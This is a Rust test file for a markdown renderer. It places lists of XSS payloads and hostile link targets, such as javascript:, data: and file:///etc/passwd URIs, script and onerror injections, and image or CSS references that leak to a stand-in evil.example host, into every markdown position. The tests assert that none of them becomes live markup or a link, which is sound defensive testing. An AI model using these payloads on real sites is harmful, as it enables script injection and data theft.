//! Attacks: every payload at every place where markdown takes a text or a target.

use markdown::{plain, render_blocks};

use crate::oracle::{OPTIONS, check_blocks, check_clean, text_of};

/// Targets that must never become a link or be loaded.
const TARGETS: [&str; 26] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JaVa\tScript:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0Ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)",
    "\u{1}javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "&#8203;javascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript:'\"><script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example/x",
    "https:evil",
    "/api/conversations",
];

/// Where a target can stand.
const PLACES: [&str; 18] = [
    "[a](@)",
    "[a](<@>)",
    "[a](@ \"title\")",
    "![a](@)",
    "![a](<@>)",
    "<@>",
    "@",
    "[a]\n\n[a]: @",
    "[a]\n\n[a]: <@> 'title'",
    "![a][b]\n\n[b]: @",
    "[![a](@)](@)",
    "[![a](@)](https://example.org)",
    "[a][]\n\n[a]: @",
    "| [a](@) |\n|---|\n| ![b](@) |",
    "# [a](@)",
    "- [ ] [a](@)",
    "> [!NOTE]\n> [a](@)",
    "x[^1]\n\n[^1]: [a](@)",
];

#[test]
fn hostile_targets_are_never_followed() {
    for target in TARGETS {
        for place in PLACES {
            let text = place.replace('@', target);
            let blocks = render_blocks(&text, &OPTIONS);
            check_blocks(&blocks);
            for href in hrefs(&blocks) {
                // Only our own example, and addresses that stand for themselves in the payload.
                let is_expected = href.starts_with('#') || href.starts_with("https://example.org");
                assert!(is_expected, "{text:?} links to {href:?}");
            }
        }
    }
}

/// Texts that must never be markup.
const TEXTS: [&str; 20] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/?leak\">",
    "<svg onload=alert(1)><path d=\"M0\"/></svg>",
    "<svg><script xlink:href=\"data:,alert(1)\"></script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\"></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=javascript:alert(1)>a</a>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "</code></pre></figure><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
];

/// Where a text can stand.
const HOLDERS: [&str; 28] = [
    "@",
    "a @ b",
    "*@*",
    "`@`",
    "``` @\na\n```",
    "~~~@\na\n~~~",
    "```\n@\n```",
    "    @",
    "# @",
    "> @",
    "> [!@]\n> a",
    "> [!NOTE]\n> @",
    "- @",
    "- [ ] @",
    "@\n: @",
    "| @ | b |\n|---|:-:|\n| c | @ |",
    "[@](https://example.org)",
    "[@](src/x)",
    "[a](https://example.org/@)",
    "[a](<https://example.org/@>)",
    "[a](<https://@>)",
    "[a](https://example.org \"@\")",
    "![@](https://example.org/x.png)",
    "![@](x.png '@')",
    "[a](#@)",
    "[a]: https://example.org '@'\n\n[a]",
    "a[^@]\n\n[^@]: @",
    "https://example.org/@ @@example.org",
];

#[test]
fn hostile_texts_are_never_markup() {
    for payload in TEXTS {
        for holder in HOLDERS {
            let text = holder.replace('@', payload);
            check_blocks(&render_blocks(&text, &OPTIONS));
        }
        check_clean(&plain(payload));
        let scope = markdown::Options {
            scope: payload,
            ..OPTIONS
        };
        for block in render_blocks("# a\n\n[b](#a)[^1]\n\n[^1]: c", &scope) {
            assert!(!block.as_str().contains("alert(1)"), "{block:?}");
        }
    }
}

#[test]
fn raw_html_is_neither_lost_nor_escaped_twice() {
    for payload in TEXTS.iter().filter(|text| text.starts_with('<')) {
        for holder in ["@", "a @ b", "- @", "> @", "# @"] {
            let html: String = render_blocks(&holder.replace('@', payload), &OPTIONS)
                .iter()
                .map(|block| text_of(block.as_str()))
                .collect();
            assert!(
                html.contains(payload),
                "{payload:?} in {holder:?} became {html:?}"
            );
        }
    }
}

#[test]
fn images_are_named_and_never_loaded() {
    for target in ["https://x.example/?leak=1", "HTTPS://x.example/?leak=1"] {
        let blocks = render_blocks(&format!("![a]({target})"), &OPTIONS);
        check_blocks(&blocks);
        assert_eq!(hrefs(&blocks), [target]);
        assert_eq!(text_of(blocks[0].as_str()), "image from x.example: a");
    }
}

fn hrefs(blocks: &[markdown::SafeHtml]) -> Vec<&str> {
    blocks
        .iter()
        .flat_map(|block| block.as_str().split(" href=\"").skip(1))
        .map(|rest| rest.split('"').next().unwrap())
        .collect()
}
